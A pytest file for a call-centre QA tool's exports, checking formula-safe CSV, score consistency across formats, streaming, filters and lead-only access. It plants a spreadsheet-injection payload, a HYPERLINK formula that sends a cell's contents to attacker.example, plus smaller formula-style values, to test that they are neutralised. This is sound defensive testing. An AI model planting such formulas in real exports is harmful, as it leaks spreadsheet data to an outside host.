"""Exports: CSV a spreadsheet opens as data, never as formulas (issue 12, defect 6); every
table a reporting team needs, streamed, filtered, lead-only, with the dashboard's final scores
(issue 15 item 5)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tomllib
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from streamlit.testing.v1 import AppTest

from qa import exports, queries
from qa.auth import Viewer, add_user
from qa.cli import main
from qa.csvsafe import FORMULA_STARTS, frame_csv, safe_cell

DEVSET = Path(__file__).parent / "devset"
FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1, "Click for refund")'


def _planted(folder: Path) -> None:
    folder.mkdir()
    call = json.loads((DEVSET / "air_bag_020.json").read_text())
    call["call_id"] = "-2+3"
    call["agent"] = "+agent"
    call["utterances"][1]["text"] = FORMULA
    call["utterances"].insert(2, {"speaker": "customer", "start": 16.2, "end": 16.5,
                                  "text": "@SUM(1+1)\tcmd"})
    (folder / "formula.json").write_text(json.dumps(call))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not number(c)]


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    _planted(tmp_path / "in")
    db = str(tmp_path / "qa.db")
    runner = CliRunner()
    assert runner.invoke(main, ["score", str(tmp_path / "in"), "--db", db]).exit_code == 0
    for what in ("calls", "findings"):
        result = runner.invoke(main, ["export", "--db", db, "--what", what])
        assert result.exit_code == 0, result.output
        cells = _cells(result.stdout)
        assert "'+agent" in cells
        assert "'-2+3" in cells
        assert not _formulas(cells), what
    # Numbers stay numbers: a score is not quoted.
    rows = list(csv.DictReader(io.StringIO(
        runner.invoke(main, ["export", "--db", db]).stdout)))
    assert float(rows[0]["overall"]) > 0


def test_dashboard_downloads_neutralise_formulas() -> None:
    frame = pd.DataFrame({"call_id": ["-1", "ok"], "agent": ["+agent", None],
                          "match": [FORMULA, "\rx"], "overall": [-5.0, 80.0]})
    text = frame_csv(frame).decode("utf-8-sig")
    cells = _cells(text)
    assert not _formulas(cells)
    assert "'" + FORMULA in cells and "-5.0" in cells  # numbers are left as numbers
    assert safe_cell(3) == 3 and safe_cell("fine") == "fine"


def test_streamlit_table_export_is_off() -> None:
    """Streamlit's own "Download as CSV" on tables writes cells as they are."""
    config = tomllib.loads((Path(__file__).parent.parent / ".streamlit" / "config.toml")
                           .read_text())
    assert config["client"]["disableDataExport"] is True


# --- exports a reporting team can use (issue 15 item 5) -----------------------------------

ROOT = Path(__file__).resolve().parent.parent
LEAD = Viewer("lead", "lead")
COACH = Viewer("coach", "coach")
FILES = ["air_bag_020", "air_rebook_003", "air_seat_035", "car_invoice_028"]
# Call times, so the period filter has something to choose between (one call per month).
TIMES = {"air_bag_020": "2026-01-10T09:00:00", "air_rebook_003": "2026-02-10T09:00:00",
         "air_seat_035": "2026-03-10T09:00:00", "car_invoice_028": "2026-03-20T09:00:00"}


@pytest.fixture(scope="module")
def scored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Four dev-set calls scored once (the formula planted in one line of the first)."""
    folder = tmp_path_factory.mktemp("export-calls")
    for name in FILES:
        call = json.loads((DEVSET / f"{name}.json").read_text())
        if name == FILES[0]:
            call["utterances"][1]["text"] = FORMULA
        (folder / f"{name}.json").write_text(json.dumps(call))
    db = folder / "qa.db"
    result = CliRunner().invoke(main, ["score", str(folder), "--db", str(db)])
    assert result.exit_code == 0, result.output
    return db


@pytest.fixture
def db(scored: Path, tmp_path: Path) -> Path:
    """A copy of the scored database with a coach's work on it: overrides (one changed
    twice), a note holding a formula, a mark on a finding, a shared review; times and a
    queue on the calls."""
    path = tmp_path / "qa.db"
    source, copy = sqlite3.connect(scored), sqlite3.connect(path)
    source.backup(copy)  # the write-ahead log too, which a file copy would miss
    source.close()
    copy.close()
    conn = queries.connect(path)
    with conn:
        for call_id, ts in TIMES.items():
            conn.execute("UPDATE calls SET call_time = ? WHERE id = ?", [ts, call_id])
        conn.execute("UPDATE calls SET extra = json_set(coalesce(extra, '{}'), '$.queue', "
                     "'billing') WHERE id IN ('air_bag_020', 'car_invoice_028')")
    first, second = FILES[0], FILES[1]
    crit = conn.execute("SELECT criterion FROM scores WHERE call_id = ? AND score < 90 "
                        "AND weight > 0 ORDER BY criterion LIMIT 1", [first]).fetchone()[0]
    queries.set_override(conn, COACH, first, crit, 95, "context the machine missed")
    queries.set_override(conn, COACH, first, crit, 100, "on second listen, full marks")
    crit2 = conn.execute("SELECT criterion FROM scores WHERE call_id = ? AND score > 20 "
                         "AND weight > 0 ORDER BY criterion LIMIT 1", [second]).fetchone()[0]
    queries.set_override(conn, COACH, second, crit2, 0, "missed it entirely")
    queries.add_note(conn, COACH, first, FORMULA)
    turn = conn.execute("SELECT idx FROM utterances WHERE call_id = ? AND speaker = 'agent' "
                        "ORDER BY idx LIMIT 1", [first]).fetchone()[0]
    queries.mark_finding(conn, COACH, first, turn, "affirmation", "added")
    queries.set_shared(conn, COACH, first)
    conn.close()
    return path


def _export(db: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["export", "--db", str(db), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _number(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def test_final_scores_equal_the_dashboards(db: Path, tmp_path: Path) -> None:
    conn = queries.connect(db)
    rows = _csv_rows(_export(db, "--what", "calls"))
    pq_path = tmp_path / "calls.parquet"
    _export(db, "--format", "parquet", "-o", str(pq_path))
    parquet = {r["id"]: r for r in pq.read_table(pq_path).to_pylist()}
    jsonl = {r["id"]: r for r in map(json.loads, _export(db, "--format", "jsonl").splitlines())}
    assert len(rows) == len(parquet) == len(jsonl) == 4
    changed = 0
    for row in rows:
        shown = queries.get_call(conn, LEAD, row["id"])  # what the review page shows
        assert shown is not None
        for exported in (_number(row["overall_final"]), parquet[row["id"]]["overall_final"],
                         jsonl[row["id"]]["overall_final"]):
            assert exported == shown["effective_overall"]
        assert _number(row["overall"]) == shown["overall"]  # the machine's, beside it
        changed += shown["effective_overall"] != shown["overall"]
        for s in shown["scores"]:
            assert _number(row[f"{s['criterion']}_final"]) == s["score"]
            assert _number(row[s["criterion"]]) == s["machine_score"]
            assert parquet[row["id"]][f"{s['criterion']}_final"] == s["score"]
    assert changed == 2 and sum(int(r["overrides"]) for r in rows) == 2
    # The Team overview's mean per criterion (with overrides) is the mean of the export's.
    period = queries.Period(date(2026, 1, 1), date(2026, 12, 31))
    for avg in queries.criterion_averages(conn, LEAD, period):
        values = [float(r[f"{avg['criterion']}_final"]) for r in rows
                  if r[f"{avg['criterion']}_final"] != ""]
        assert len(values) == avg["calls"]
        assert sum(values) / len(values) == pytest.approx(avg["average"])
    # The long table says the same, with who overrode and why.
    scores = _csv_rows(_export(db, "--what", "scores"))
    overridden = [r for r in scores if r["overridden"] == "1"]
    assert {r["final_score"] for r in overridden} == {"100.0", "0.0"}
    assert {r["override_reason"] for r in overridden} == {"on second listen, full marks",
                                                          "missed it entirely"}


def test_formula_in_a_transcript_or_note_is_inert_in_csv_and_plain_in_parquet(
        db: Path, tmp_path: Path) -> None:
    for what, column in [("transcript", "text"), ("notes", "body")]:
        text = _export(db, "--what", what)
        cells = _cells(text)
        assert "'" + FORMULA in cells, what
        assert not _formulas(cells), what
        target = tmp_path / f"{what}.parquet"
        _export(db, "--what", what, "--format", "parquet", "-o", str(target))
        values = pq.read_table(target).column(column).to_pylist()
        assert FORMULA in values and "'" + FORMULA not in values  # text as it was said
    # Every table of a full export is formula-safe.
    _export(db, "--what", "all", "--folder", str(tmp_path / "all"))
    for name in exports.TABLES:
        assert not _formulas(_cells((tmp_path / "all" / f"{name}.csv").read_text())), name


def test_jsonl_is_written_row_by_row(db: Path) -> None:
    conn = queries.connect(db)
    tab = exports.table(conn, LEAD, "transcript")
    pulled, rows = 0, tab.rows

    def counted() -> Iterator[Any]:
        nonlocal pulled
        for row in rows:
            pulled += 1
            yield row

    tab.rows = counted()
    seen_at: list[int] = []

    class Out(io.StringIO):
        def write(self, s: str) -> int:
            seen_at.append(pulled)
            return super().write(s)

    out = Out()
    total = exports.write_jsonl(tab, out)
    # Each line goes out as its row is read: never the whole set first.
    assert seen_at == list(range(1, total + 1)) and total > 100
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert len(lines) == total and FORMULA in {r["text"] for r in lines}
    # JSON columns are values in JSON Lines, not text: the audit trail's before and after.
    audit = [json.loads(line) for line in _export(db, "--what", "audit", "--format",
                                                  "jsonl").splitlines()]
    changes = [r for r in audit if r["action"] == "override.change"]
    assert changes and changes[0]["before"]["score"] == 95 and changes[0]["after"]["score"] == 100


def test_parquet_is_written_in_row_groups(db: Path, tmp_path: Path) -> None:
    conn = queries.connect(db)
    target = tmp_path / "t.parquet"
    count = exports.write_parquet(exports.table(conn, LEAD, "transcript"), target, row_group=50)
    meta = pq.ParquetFile(target).metadata
    assert meta.num_rows == count and meta.num_row_groups == -(-count // 50) > 1
    schema = pq.read_schema(target)
    assert str(schema.field("start").type) == "double" and str(schema.field("idx").type) == "int64"
    # An empty selection still writes a readable file with the columns.
    empty = tmp_path / "empty.parquet"
    flt = exports.ExportFilter(agents=("nobody",))
    assert exports.write_parquet(exports.table(conn, LEAD, "calls", flt), empty) == 0
    assert "overall_final" in pq.read_schema(empty).names


def test_filters_by_period_agent_and_queue(db: Path) -> None:
    def ids(*args: str) -> set[str]:
        return {r["id"] for r in _csv_rows(_export(db, *args))}

    assert ids() == set(FILES)
    assert ids("--from", "2026-02-01", "--to", "2026-03-10") == {"air_rebook_003",
                                                                   "air_seat_035"}
    assert ids("--from", "2026-03-11") == {"car_invoice_028"}
    assert ids("--agent", "t.brennan") == {"air_bag_020", "car_invoice_028"}
    assert ids("--agent", "t.brennan", "--agent", "j.okafor") == {
        "air_bag_020", "car_invoice_028", "air_rebook_003"}
    assert ids("--queue", "billing") == {"air_bag_020", "car_invoice_028"}
    assert ids("--queue", "billing", "--from", "2026-03-01") == {"car_invoice_028"}
    assert ids("--queue", "nope") == set()
    # Every table follows the same choice of calls.
    for what in ("findings", "transcript", "scores", "commitments"):
        rows = _csv_rows(_export(db, "--what", what, "--agent", "j.okafor"))
        assert rows and {r["call_id"] for r in rows} == {"air_rebook_003"}, what
    notes = _csv_rows(_export(db, "--what", "notes", "--from", "2026-02-01"))
    assert notes == []
    marks = _csv_rows(_export(db, "--what", "marks", "--queue", "billing"))
    assert [m["call_id"] for m in marks] == ["air_bag_020"] and marks[0]["verdict"] == "added"
    audit = _csv_rows(_export(db, "--what", "audit", "--agent", "j.okafor"))
    assert audit and {r["call_id"] for r in audit} == {"air_rebook_003"}
    # A queue column on calls (the per-queue rubrics' schema step) is used where it is set.
    conn = sqlite3.connect(db)
    conn.execute("ALTER TABLE calls ADD COLUMN queue TEXT")
    conn.execute("UPDATE calls SET queue = 'travel' WHERE id = 'air_seat_035'")
    conn.commit()
    conn.close()
    assert ids("--queue", "travel") == {"air_seat_035"}
    assert ids("--queue", "billing") == {"air_bag_020", "car_invoice_028"}
    assert exports.queues(queries.connect(db), LEAD) == ["billing", "travel"]


def test_only_a_lead_can_export(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from qa.ui.exports import export_bytes

    conn = queries.connect(db)
    agent = Viewer("agent", "agent", "t.brennan")
    for who in (LEAD, COACH, agent):
        add_user(conn, who.user, who.role, "correct horse battery", who.agent)
    for who in (COACH, agent):
        for name in exports.TABLES:
            with pytest.raises(queries.AccessDenied):
                exports.table(conn, who, name)
        with pytest.raises(queries.AccessDenied):
            export_bytes(db, who, "calls", "csv", exports.ExportFilter())
        with pytest.raises(queries.AccessDenied):
            exports.queues(conn, who)
    # The lead's download: the same table, a byte-order mark first; all tables as a zip.
    data = export_bytes(db, LEAD, "calls", "csv", exports.ExportFilter())
    assert data.startswith(b"\xef\xbb\xbf")
    assert {r["id"] for r in _csv_rows(data.decode("utf-8-sig"))} == set(FILES)
    packed = export_bytes(db, LEAD, "all", "parquet",
                          exports.ExportFilter(agents=("t.brennan",)))
    with zipfile.ZipFile(io.BytesIO(packed)) as zf:
        assert sorted(zf.namelist()) == sorted(f"{n}.parquet" for n in exports.TABLES)
        calls = pq.read_table(io.BytesIO(zf.read("calls.parquet"))).column("id").to_pylist()
    assert sorted(calls) == ["air_bag_020", "car_invoice_028"]
    # The page: a lead gets the button, a coach or an agent the refusal and nothing else.
    monkeypatch.setenv("QA_DB", str(db))
    page = str(ROOT / "qa" / "ui" / "exports.py")
    for who in (COACH, agent):
        at = AppTest.from_file(page, default_timeout=60)
        at.session_state["viewer"] = who
        at.run()
        assert "not available to your role" in at.error[0].value
        assert not at.get("download_button")
    at = AppTest.from_file(page, default_timeout=60)
    at.session_state["viewer"] = LEAD
    at.run()
    assert not at.exception and [t.value for t in at.title] == ["Exports"]
    [download] = at.get("download_button")
    assert "of 4 calls" in download.proto.label
    # A lead demoted after the page was drawn gets nothing from its button.
    with conn:
        conn.execute("UPDATE users SET role = 'coach' WHERE name = 'lead'")
    with pytest.raises(queries.AccessDenied):
        export_bytes(db, LEAD, "calls", "csv", exports.ExportFilter())


def test_exports_page_is_in_the_leads_navigation_only(db: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    conn = queries.connect(db)
    for name, role in (("lead", "lead"), ("coach", "coach")):
        add_user(conn, name, role, "correct horse battery")
    conn.close()
    monkeypatch.setenv("QA_DB", str(db))

    def sign_in(name: str) -> AppTest:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
        at.text_input(key="signin_name").input(name)
        at.text_input(key="signin_password").input("correct horse battery")
        next(b for b in at.button if b.label == "Sign in").click()
        return at.run()

    lead = sign_in("lead")
    lead.switch_page("qa/ui/exports.py").run()
    assert not lead.exception and [t.value for t in lead.title] == ["Exports"]
    coach = sign_in("coach")
    with pytest.raises(ValueError):  # not in a coach's navigation
        coach.switch_page("qa/ui/exports.py")
    # Parquet is binary: the command asks for a file rather than write it to a terminal.
    result = CliRunner().invoke(main, ["export", "--db", str(db), "--format", "parquet"])
    assert result.exit_code == 2 and "give -o FILE" in result.output
